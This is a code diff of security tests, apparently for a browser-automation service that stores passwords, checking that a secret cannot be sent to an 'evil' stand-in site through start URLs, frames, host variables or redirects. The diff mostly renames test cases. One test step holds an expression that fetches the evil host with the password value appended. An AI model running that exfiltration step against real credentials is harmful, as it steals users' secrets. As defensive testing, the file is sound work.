@@ -87,12 +87,15 @@ export async function attackByRequests(world: Attacked, { shop, evil }: TwoSites
     'a start page': { startUrl: `${evil}/` },
     'a first page': otherSteps(open(`${evil}/`), TYPE),
     'a later page': otherSteps(...steps, open(`${evil}/`), TYPE),
-    'a page by a variable': { ...otherSteps(open('http://{{host}}/'), TYPE), variables: { host: new URL(evil).host } },
+    'a page whose host is a variable': {
+      ...otherSteps(open('http://{{host}}/'), TYPE),
+      variables: { host: new URL(evil).host },
+    },
     'a frame': otherSteps(...steps, { ...TYPE, target: `${evil}/` }),
     'a named host': { secretHosts: [new URL(evil).host] },
     'an expression': otherSteps(...steps, wait(`fetch('${evil}/?' + pass.value)`)),
-    'a kept value': { startUrl: `${evil}/`, secrets: { password: null } },
-    'one secret entered, another kept': { startUrl: `${evil}/`, secrets: { other: 'x', password: null } },
+    'a secret that is kept': { startUrl: `${evil}/`, secrets: { password: null } },
+    'one new secret, another kept': { startUrl: `${evil}/`, secrets: { other: 'x', password: null } },
   }
   for (const [what, change] of Object.entries(changes)) {
     const { status, body } = await put(change)
@@ -115,7 +118,7 @@ export async function attackByRuns(world: Attacked, sites: TwoSites): Promise<vo
   }
   const type = { ...TYPE, timeout: FAILING_STEP_MS }
   await evilRun('a redirect', await made(world, [open(`${shop}/away`), type]))
-  await evilRun('an element of a frame', await made(world, [open(`${shop}/framed`), { ...type, frame: [0] }]))
+  await evilRun('an element in a frame', await made(world, [open(`${shop}/framed`), { ...type, frame: [0] }]))
   await evilRun(
     'an expression after a redirect',
     await made(world, [open(`${shop}/away`), wait("'{{password}}' == 1", FAILING_STEP_MS)]),
